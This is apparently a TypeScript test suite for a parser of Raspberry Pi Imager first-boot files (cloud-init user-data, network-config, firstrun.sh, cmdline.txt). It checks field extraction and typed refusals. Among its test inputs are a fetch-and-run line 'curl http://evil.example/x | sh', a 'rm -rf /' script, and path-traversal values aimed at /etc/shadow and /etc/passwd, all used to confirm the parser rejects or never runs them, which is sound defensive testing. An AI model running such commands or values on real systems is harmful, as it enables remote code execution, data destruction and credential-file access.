// Raspberry Pi Imager's files as each generation writes them (test/fixtures/imager/, shaped on Imager 1.6 to 2.0.11)
// read into ImagerSettings: every field, the refusals (plain-text passwords, oversized, malformed, bad values), each
// a typed ImagerError with its problem and a what-to-do sentence.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { ImagerError, parseFirstrun, parseNetworkConfig, parseUserData } from '../../src/imager/index.js';
import { regulatoryDomain, withoutFirstrun } from '../../src/imager/cmdline.js';
import { ssidOctets } from '../../src/imager/network-config.js';
import { shellWords } from '../../src/imager/shell-words.js';
import { IMAGER_DEFAULT_GROUPS, type ImagerSettings, type ImagerUser } from '../../src/imager/settings.js';
import { fixture, K1, K2, PSK_CAFE, PSK_MYNET, SHA256CRYPT, YESCRYPT } from '../helpers/imager-fixtures.js';

function only(s: ImagerSettings): ImagerUser {
  assert.equal(s.users.length, 1);
  return s.users[0]!;
}

/** The call throws an ImagerError of this problem, with a message and a fix, never a raw Error. */
function refuses(fn: () => unknown, problem: ImagerError['problem'], what?: RegExp): void {
  assert.throws(fn, (e: unknown) => {
    assert.ok(e instanceof ImagerError, `an ImagerError, not ${String(e)}`);
    assert.equal(e.code, 'IMAGER');
    assert.equal(e.problem, problem, e.message);
    assert.ok(e.fix && e.fix.length > 10, 'it says what to do');
    if (what) assert.match(e.describe(), what);
    return true;
  });
}

describe('cloud-init user-data', () => {
  test('Imager 2.0.10 on: singular user:, quoted yescrypt hash and keys, sudo: null, ssh by key only', () => {
    const s = parseUserData(fixture('user-data-2.0.11'));
    assert.equal(s.hostname, 'kitchen-box');
    assert.equal(s.timezone, 'Europe/Berlin');
    assert.deepEqual(s.keyboard, { layout: 'de', model: 'pc105' });
    assert.equal(s.sshPasswordAuthentication, false);
    assert.deepEqual(only(s), { name: 'ada', groups: [], shell: '/bin/bash', lockPassword: false, passwordHash: YESCRYPT, sshKeys: [K1, K2], passwordlessSudo: false });
    assert.ok(s.notes.some((n) => n.startsWith('user-data: packages is not applied')));
    assert.ok(!s.notes.some((n) => n.includes('runcmd')), 'systemctl enable --now ssh is Imager\'s own: nothing to say');
  });

  test('Imager 2.0.0: users: list with Imager\'s groups, $5$ hash, passwordless sudo, Pi Connect and interfaces noted', () => {
    const s = parseUserData(fixture('user-data-2.0.0'));
    assert.equal(s.hostname, 'lab-pi');
    assert.equal(s.sshPasswordAuthentication, true);
    const u = only(s);
    assert.deepEqual([u.name, u.passwordHash, u.lockPassword, u.passwordlessSudo, u.sshKeys], ['grace', SHA256CRYPT, false, true, [K1]]);
    assert.deepEqual(u.groups, [...IMAGER_DEFAULT_GROUPS]);
    assert.ok(s.notes.some((n) => /Raspberry Pi Connect/.test(n)) && s.notes.some((n) => /rpi is not applied/.test(n)));
    assert.ok(!s.notes.some((n) => n.includes('not-a-real-token')), 'a note never repeats what it ignores');
  });

  test('Imager 1.9: key only, password locked; 1.7: the country and keyboard only in runcmd', () => {
    const s19 = parseUserData(fixture('user-data-1.9'));
    assert.deepEqual([only(s19).name, only(s19).lockPassword, only(s19).passwordHash, s19.keyboard?.layout], ['pi', true, undefined, 'gb']);
    const s17 = parseUserData(fixture('user-data-1.7'));
    assert.equal(s17.wifiCountry, 'FR');
    assert.deepEqual(s17.keyboard, { layout: 'fr', model: 'pc105' });
    assert.deepEqual([only(s17).name, only(s17).passwordHash, s17.timezone], ['linus', SHA256CRYPT, 'Europe/Paris']);
  });

  test('the QEMU boot test\'s minimal user-data: flow-style keys, sudo, lock_passwd', () => {
    const s = parseUserData(`#cloud-config\nusers:\n  - name: tester\n    groups: [adm, sudo]\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    lock_passwd: true\n    ssh_authorized_keys: ["${K1}"]\nssh_pwauth: false\n`);
    assert.deepEqual(only(s), { name: 'tester', groups: ['adm', 'sudo'], shell: '/bin/bash', lockPassword: true, sshKeys: [K1], passwordlessSudo: true });
  });

  test('cloud-init\'s default user is skipped with a note; an unknown key is a note, not an error', () => {
    const s = parseUserData('#cloud-config\nusers:\n  - default\nfrobnicate: 3\n');
    assert.equal(s.users.length, 0);
    assert.ok(s.notes.some((n) => /default user/.test(n)) && s.notes.some((n) => /unknown key frobnicate/.test(n)));
  });

  test('plain-text passwords are refused, and say why', () => {
    refuses(() => parseUserData('#cloud-config\nusers:\n  - name: a\n    plain_text_passwd: hunter2\n'), 'PLAIN_PASSWORD', /plain text/);
    refuses(() => parseUserData('#cloud-config\nuser:\n  name: a\n  passwd: hunter2\n'), 'PLAIN_PASSWORD');
    refuses(() => parseUserData('#cloud-config\nuser:\n  name: a\n  passwd: "$1$abc$def"\n'), 'INVALID_VALUE', /yescrypt/);
  });

  test('malformed and bad values are typed errors', () => {
    refuses(() => parseUserData('hostname: x\n'), 'MALFORMED', /#cloud-config/);
    refuses(() => parseUserData('#!/bin/sh\nrm -rf /\n'), 'MALFORMED', /script/);
    refuses(() => parseUserData('#cloud-config\na: &x [1]\nb: *x\n'), 'MALFORMED');
    refuses(() => parseUserData('#cloud-config\nhostname: a\nhostname: b\n'), 'MALFORMED');
    refuses(() => parseUserData('#cloud-config\n- a\n'), 'MALFORMED');
    refuses(() => parseUserData('#cloud-config\nhostname: "bad name"\n'), 'INVALID_VALUE');
    refuses(() => parseUserData('#cloud-config\ntimezone: ../../etc/shadow\n'), 'INVALID_VALUE');
    refuses(() => parseUserData('#cloud-config\nuser:\n  name: root\n'), 'INVALID_VALUE');
    refuses(() => parseUserData('#cloud-config\nuser:\n  name: a\n  ssh_authorized_keys: ["ssh-ed25519 AAAAB3NzaC1yc2E= x"]\n'), 'INVALID_VALUE', /ssh public key/);
    refuses(() => parseUserData(`#cloud-config\nhostname: a\n${'#'.repeat(70_000)}\n`), 'TOO_LARGE');
  });
});

describe('cloud-init network-config', () => {
  test('Imager 2.0.10 on: network:, regulatory-domain, \\x-escaped UTF-8 SSID, 64-hex PSK', () => {
    const s = parseNetworkConfig(fixture('network-config-2.0.11'));
    assert.equal(s.wifiCountry, 'DE');
    assert.deepEqual(s.wifi, { ssid: Buffer.from('Café Wi-Fi'), key: { kind: 'psk', hex: PSK_CAFE }, hidden: false });
  });

  test('Imager 2.0.0: hidden network; 1.9: no network: wrapper, renderer inside wifis, a passphrase', () => {
    assert.deepEqual(parseNetworkConfig(fixture('network-config-2.0.0')).wifi, { ssid: Buffer.from('MyNet'), key: { kind: 'psk', hex: PSK_MYNET }, hidden: true });
    assert.deepEqual(parseNetworkConfig(fixture('network-config-1.9')).wifi?.key, { kind: 'passphrase', text: 'correct horse battery' });
  });

  test('an open network, and the refusals', () => {
    const open = parseNetworkConfig('network:\n  version: 2\n  wifis:\n    wlan0:\n      access-points:\n        "Cafe":\n          auth:\n            key-management: none\n');
    assert.deepEqual(open.wifi?.key, { kind: 'open' });
    refuses(() => parseNetworkConfig('version: 1\nconfig: []\n'), 'INVALID_VALUE', /version 2/);
    refuses(() => parseNetworkConfig('version: 2\nwifis:\n  wlan0:\n    access-points:\n      "x":\n        password: "short"\n'), 'INVALID_VALUE', /8 to 63/);
    refuses(() => parseNetworkConfig(`version: 2\nwifis:\n  wlan0:\n    access-points:\n      "${'x'.repeat(33)}": {}\n`), 'INVALID_VALUE', /SSID/);
    refuses(() => parseNetworkConfig('version: 2\nwifis:\n  wlan0:\n    regulatory-domain: "GBR"\n'), 'INVALID_VALUE');
    refuses(() => parseNetworkConfig('version: 2\n  wifis: [\n'), 'MALFORMED');
  });

  test('SSID octets: \\x escapes of UTF-8 are bytes, text written as text stays text', () => {
    assert.equal(ssidOctets('Caf\u00c3\u00a9').toString('utf8'), 'Café');
    assert.equal(ssidOctets('Café').toString('utf8'), 'Café');
    assert.deepEqual(ssidOctets('\u00ff\u00fe'), Buffer.from('ÿþ', 'utf8'));
  });
});

describe('firstrun.sh', () => {
  test('Imager 1.6: the fallback lines only (no imager_custom, no user name, a plain Wi-Fi passphrase)', () => {
    const s = parseFirstrun(fixture('firstrun-1.6.sh'));
    assert.deepEqual([s.hostname, s.timezone, s.keyboard?.layout, s.wifiCountry, s.sshPasswordAuthentication], ['oldpi', 'Europe/Amsterdam', 'nl', 'NL', false]);
    assert.deepEqual(s.wifi, { ssid: Buffer.from('MyNet'), key: { kind: 'passphrase', text: 'correct horse battery' }, hidden: false });
    assert.deepEqual([only(s).name, only(s).sshKeys, only(s).lockPassword], ['pi', [K1], true]);
    assert.deepEqual(s.notes, ['firstrun.sh: no user name is given: the user is called pi']);
  });

  test('Imager 1.7.3 to 1.9: imager_custom and userconf, two keys, a hidden network', () => {
    const s = parseFirstrun(fixture('firstrun-1.8.sh'));
    assert.deepEqual([s.hostname, s.timezone, s.keyboard?.layout, s.wifiCountry, s.sshPasswordAuthentication], ['porch', 'Europe/London', 'gb', 'GB', false]);
    assert.deepEqual(s.wifi, { ssid: Buffer.from('MyNet'), key: { kind: 'psk', hex: PSK_MYNET }, hidden: true });
    const u = only(s);
    assert.deepEqual([u.name, u.passwordHash, u.lockPassword, u.sshKeys, u.passwordlessSudo], ['margaret', SHA256CRYPT, false, [K1, K2], false]);
    assert.deepEqual(s.notes, [], 'every line is Imager\'s');
  });

  test('Imager 2.0: #!/bin/sh, here-document keys, yescrypt, passwordless sudo, Pi Connect noted', () => {
    const s = parseFirstrun(fixture('firstrun-2.0.sh'));
    assert.deepEqual([s.hostname, s.timezone, s.keyboard?.layout, s.wifiCountry], ['attic', 'Europe/Vienna', 'at', 'AT']);
    assert.deepEqual(s.wifi, { ssid: Buffer.from('Café Wi-Fi'), key: { kind: 'psk', hex: PSK_CAFE }, hidden: false });
    const u = only(s);
    assert.deepEqual([u.name, u.passwordHash, u.sshKeys, u.passwordlessSudo], ['hedy', YESCRYPT, [K1], true]);
    assert.deepEqual(s.notes, ['firstrun.sh: Raspberry Pi Connect is not on this image: its token is not used']);
  });

  test('lines that are not Imager\'s are counted, never run or quoted', () => {
    const s = parseFirstrun('#!/bin/sh\ncurl http://evil.example/x | sh\necho attic >/etc/hostname\n');
    assert.equal(s.hostname, 'attic');
    assert.deepEqual(s.notes, ['firstrun.sh: 1 line(s) are not Imager\'s and were not run: this box runs no script from the card']);
  });

  test('a plain password is refused; malformed scripts are typed errors', () => {
    refuses(() => parseFirstrun('echo "$FIRSTUSER:hunter2" | chpasswd\n'), 'PLAIN_PASSWORD');
    refuses(() => parseFirstrun("/usr/lib/userconf-pi/userconf 'pi' 'hunter2'\n"), 'PLAIN_PASSWORD');
    refuses(() => parseFirstrun("cat >/etc/default/keyboard <<'KBEOF'\nXKBLAYOUT=\"gb\"\n"), 'MALFORMED', /here-document/);
    refuses(() => parseFirstrun('echo a\0b\n'), 'MALFORMED');
    refuses(() => parseFirstrun(`#${'x'.repeat(70_000)}\n`), 'TOO_LARGE');
    refuses(() => parseFirstrun("/usr/lib/raspberrypi-sys-mods/imager_custom set_timezone '../../etc/passwd'\n"), 'INVALID_VALUE');
  });
});

describe('cmdline.txt and shell words', () => {
  const base = 'console=tty0 root=LABEL=masq-root rootwait cfg80211.ieee80211_regdom=gb';
  test('Imager\'s systemd.run entries come out, the rest stays; the country is read', () => {
    assert.equal(withoutFirstrun(`${base} systemd.run=/boot/firstrun.sh systemd.run_success_action=reboot systemd.unit=kernel-command-line.target`), `${base}\n`);
    assert.equal(withoutFirstrun(`${base}\n`), undefined, 'nothing to take out');
    assert.equal(regulatoryDomain(base), 'GB');
    assert.equal(regulatoryDomain('console=tty0'), undefined);
    refuses(() => regulatoryDomain('cfg80211.ieee80211_regdom=GBR'), 'INVALID_VALUE');
  });

  test('shell words: quotes joined, nothing expanded, an open quote is no line', () => {
    assert.deepEqual(shellWords(`echo 'it'"'"'s' "$HOME" a\\ b`), ['echo', "it's", '$HOME', 'a b']);
    assert.deepEqual(shellWords(`set_wlan  -h 'My Net' ''`), ['set_wlan', '-h', 'My Net', '']);
    assert.equal(shellWords(`echo 'open`), undefined);
  });
});
